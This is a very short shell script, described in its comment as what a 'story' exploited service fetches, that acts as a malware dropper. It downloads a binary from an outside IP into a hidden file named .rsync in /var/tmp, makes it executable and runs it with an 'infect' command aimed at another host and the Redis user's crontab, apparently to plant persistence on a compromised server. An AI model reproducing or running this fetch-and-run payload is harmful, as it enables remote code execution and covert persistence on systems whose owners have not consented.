#!/bin/sh
# What the story exploited-service fetches: fetches and runs a program that writes a crontab.
cd /var/tmp
curl -s -o .rsync http://203.0.113.10/simulator
chmod +x .rsync
./.rsync infect 203.0.113.20:7000 /var/spool/cron/crontabs/redis
